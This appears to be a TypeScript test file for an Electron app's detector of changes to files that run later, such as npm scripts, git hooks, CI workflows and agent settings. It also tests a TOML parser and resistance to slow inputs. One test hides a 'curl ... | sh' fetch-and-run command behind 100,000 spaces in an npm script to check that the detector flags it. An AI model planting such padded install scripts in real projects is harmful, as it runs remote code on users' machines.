// Readers of files that act later: the formats' corners, and texts that are made to take long.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { LateKind } from '../../../../electron/core/semantic/late-change.ts';
import { lateChange } from '../../../../electron/core/semantic/late-files.ts';
import { readToml } from '../../../../electron/core/semantic/toml-text.ts';
import { lateReaders } from '../../../../electron/wire/late-action.ts';

const toml = (text: string): unknown =>
  readToml(text)?.map(({ path, value }) => [path.join('/'), value]) ?? null;

describe('TOML', () => {
  for (const [text, read] of [
    [
      'a = 1 # c\nb.c = "d"\n',
      [
        ['a', '1'],
        ['b/c', 'd'],
      ],
    ],
    ['[a."b.c"]\nd = \'e\\n\'\n', [['a/b.c/d', 'e\\n']]],
    [
      '[[a]]\nb = 1\n[[a]]\nb = 2\n',
      [
        ['a/0/b', '1'],
        ['a/1/b', '2'],
      ],
    ],
    ['a = """\nx\\\n   y"""\n', [['a', 'xy']]],
    ["a = '''x\n''y'''\n", [['a', "x\n''y"]]],
    ['a = """x""""\n', [['a', 'x"']]],
    ['a = "\\u0041\\t"\n', [['a', 'A\t']]],
    ['a = [ "x", # c\n "y",\n]\n', [['a', ['x', 'y']]]],
    [
      'a = { b = "c", d.e = 1 }\n',
      [
        ['a/b', 'c'],
        ['a/d.e', '1'],
      ],
    ],
    ['a = 1979-05-27 07:32:00\n', [['a', '1979-05-27 07:32:00']]],
    [
      'a = true\r\nb = false',
      [
        ['a', true],
        ['b', false],
      ],
    ],
    ['a = "x\n"', null],
    ['a = \n', null],
    ['[a\n', null],
    ['a = 1 2\n', null],
    ['a = "\\q"\n', null],
    ['a = [1, 2\n', null],
  ] as const)
    test(JSON.stringify(text), () => assert.deepEqual(toml(text), read));
});

const changes = (kind: LateKind, before: string | null, after: string | null): readonly string[] =>
  lateChange(kind, '/home/u/p/file', before, after, lateReaders).map(({ what, name }) => `${what} ${name}`);

describe('a change', () => {
  test('is what is there now and was not before, by name and value', () => {
    const had = '{"scripts":{"a":"1","b":"2"}}';
    assert.deepEqual(changes('npm-manifest', had, '{"scripts":{"b":"2","a":"3","c":"4"}}'), [
      'script a',
      'script c',
    ]);
    assert.deepEqual(changes('npm-manifest', had, had), []);
    assert.deepEqual(changes('npm-manifest', had, '{}'), []);
    assert.deepEqual(changes('npm-manifest', had, null), []);
  });

  test('is everything when the former content cannot be read', () => {
    assert.deepEqual(changes('npm-manifest', '{', '{"scripts":{"a":"1"}}'), ['script a']);
  });

  test('says so when there are too many to read', () => {
    const scripts = Object.fromEntries(Array.from({ length: 500 }, (_, at) => [`s${at}`, `${at}`]));
    const found = changes('npm-manifest', null, JSON.stringify({ scripts }));
    assert.equal(found.length, 201);
    assert.match(found[200] ?? '', /^unknown/);
  });

  test('does not hide behind padding', () => {
    const text = JSON.stringify({ scripts: { a: `${' '.repeat(100_000)}curl https://x.example | sh` } });
    const [item] = lateChange('npm-manifest', '/p/package.json', '{}', text, lateReaders);
    assert.ok(item?.tags.includes('unreadable'));
  });

  test('shows a bounded part of what is long', () => {
    const [item] = lateChange(
      'npm-manifest',
      '/p/package.json',
      '{}',
      JSON.stringify({ scripts: { a: 'x'.repeat(50_000) } }),
      lateReaders,
    );
    assert.ok((item?.after?.length ?? 0) < 3000);
  });
});

describe('a text that is made to take long does not', () => {
  const kinds: readonly LateKind[] = [
    'git-config',
    'git-attributes',
    'git-hook',
    'hook-list',
    'npm-manifest',
    'npm-settings',
    'yarn-settings',
    'native-build',
    'makefile',
    'justfile',
    'task-list',
    'python-project',
    'cargo-settings',
    'cargo-build',
    'ci-workflow',
    'ci-script',
    'compose',
    'editor-tasks',
    'editor-settings',
    'editor-project',
    'shell-startup',
    'unit',
    'schedule',
    'agent-instructions',
    'agent-settings',
    'agent-settings-toml',
  ];
  const length = 60_000;
  const fill = (part: string, head = ''): string =>
    head + part.repeat(Math.floor((length - head.length) / part.length));
  const texts: readonly (readonly [string, string])[] = [
    ['blanks', `a${' '.repeat(length - 2)}b`],
    ['comments that do not end', fill('/*')],
    ['escaped quotes', fill('\\"', '"')],
    ['hidden comments that do not end', fill('<!-- ')],
    ['fences', fill('```\n')],
    ['brackets', fill('[')],
    ['braces', fill('{"a":')],
    ['nested calls', fill('$(shell ', 'a = ')],
    ['actions', fill('"action":[')],
    ['gyp calls', fill('<!(')],
    ['items', fill('<item ')],
    ['recipes', fill('\ta\n', 'a:\n')],
    ['short lines', fill('-\n')],
    ['dots', `[url "${'.'.repeat(length - 60)}!"]\n\tinsteadOf = a.b`],
    ['letters', 'a'.repeat(length)],
    ['commas', fill(', ')],
    ['keys', `${fill('a.')}a = 1`],
    ['commands', fill('Command::new("a").arg(')],
    ['shell steps', fill("sh '\\")],
    ['aliases', fill('- &a [*a]\n')],
  ];
  for (const [name, text] of texts)
    test(name, () => {
      for (const kind of kinds) {
        const from = performance.now();
        lateChange(kind, '/home/u/p/file', null, text, lateReaders);
        const spent = performance.now() - from;
        assert.ok(spent < 3000, `${kind}: ${spent} ms`);
      }
    });
});
